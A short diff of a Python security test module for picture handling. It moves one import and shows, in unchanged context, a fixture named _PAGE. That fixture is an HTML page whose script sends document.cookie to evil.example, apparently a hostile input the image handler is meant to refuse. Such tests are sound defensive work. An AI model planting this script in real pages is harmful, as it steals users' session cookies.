@@ -6,8 +6,8 @@ import zipfile
 from collections.abc import Callable
 from typing import Final
 
+from testing import photos
 from tests.security.pictures.picture import NOT_AN_IMAGE, UPRIGHT, Picture, Refused, Shows
-from tests.support import photos
 
 _SMALL: Final = Shows(UPRIGHT, (64, 48))
 _PAGE: Final = b"<!doctype html><script>fetch('https://evil.example/'+document.cookie)</script>"
